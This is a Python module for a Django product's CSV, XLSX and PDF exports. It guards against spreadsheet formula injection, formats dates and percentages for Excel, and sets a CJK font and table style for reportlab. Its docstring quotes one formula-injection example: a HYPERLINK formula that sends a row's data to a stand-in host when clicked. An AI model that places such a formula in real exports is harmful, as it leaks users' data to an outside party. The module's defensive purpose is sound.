"""What every spreadsheet and PDF the product writes shares: the formula-injection neutraliser
(one rule for every CSV and XLSX cell) and the PDF's CJK font and table style.

A cell whose text starts with = + - @, a tab or a carriage return is run as a formula by Excel
and WPS (``=HYPERLINK("http://e.vil/?"&A2,"详情")`` sends the row away when clicked): such text
is written with a leading apostrophe, which makes it plain text (OWASP's advice). Numbers and
dates are written as they are; only text can carry a formula.

A ledger is read by people who sort, sum and filter it in Excel, so `sheet_row` writes numbers as
numbers and times as Excel dates with a number format (local time: Excel has no time zones), never
as text; a rate is a fraction shown as a percentage (`Formatted(0.875, PERCENT)` shows 87.5%).
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from datetime import date, datetime
from typing import Any, Final

from django.utils import timezone

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")
PDF_FONT: Final = "STSong-Light"

# Excel number formats.
DATETIME: Final = "yyyy-mm-dd hh:mm"
DATETIME_SECONDS: Final = "yyyy-mm-dd hh:mm:ss"
DATE: Final = "yyyy-mm-dd"
PERCENT: Final = "0.0%"
SCORE: Final = "0.00"
SIGNED_SCORE: Final = "+0.00;-0.00;0.00"


def cell_safe(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: text that could start a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_safe(values: Iterable[Any]) -> list[Any]:
    return [cell_safe(v) for v in values]


@dataclass(frozen=True)
class Formatted:
    """A value written with a given Excel number format; None leaves the cell empty."""

    value: Any
    number_format: str


def _excel_time(value: datetime) -> datetime:
    """An aware time as the local wall-clock time Excel stores (openpyxl refuses time zones)."""
    if timezone.is_aware(value):
        value = timezone.localtime(value)
    return value.replace(tzinfo=None)


def sheet_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` on a write-only sheet: text made formula-safe, datetimes and
    dates as Excel dates (DATETIME, DATE), `Formatted` values with their number format, numbers
    as numbers."""
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for value in values:
        if isinstance(value, Formatted):
            value, number_format = value.value, value.number_format
        elif isinstance(value, datetime):
            number_format = DATETIME
        elif isinstance(value, date):
            number_format = DATE
        else:
            row.append(cell_safe(value))
            continue
        if isinstance(value, datetime):
            value = _excel_time(value)
        if value is None:
            row.append(None)
            continue
        cell = WriteOnlyCell(sheet, value=cell_safe(value))
        cell.number_format = number_format
        row.append(cell)
    return row


def pdf_font() -> str:
    """Register the CJK font reportlab ships (Adobe's STSong, no file needed) and name it."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont

    if PDF_FONT not in pdfmetrics.getRegisteredFontNames():
        pdfmetrics.registerFont(UnicodeCIDFont(PDF_FONT))
    return PDF_FONT


def pdf_table_style(*extra: tuple[Any, ...]) -> Any:
    """The tables' style: the CJK font, a shaded header row, a light grid."""
    from reportlab.lib import colors
    from reportlab.platypus import TableStyle

    font = pdf_font()
    return TableStyle(
        [
            ("FONTNAME", (0, 0), (-1, -1), font),
            ("FONTSIZE", (0, 0), (-1, -1), 8),
            ("BACKGROUND", (0, 0), (-1, 0), colors.HexColor("#e8eef6")),
            ("GRID", (0, 0), (-1, -1), 0.4, colors.HexColor("#9aa5b1")),
            ("VALIGN", (0, 0), (-1, -1), "MIDDLE"),
            *extra,
        ]
    )


def pdf_text(value: str) -> str:
    """Text for a reportlab Paragraph, which reads its input as markup: escaped."""
    from xml.sax.saxutils import escape  # escapes our text, parses nothing  # nosec B406

    return escape(value)
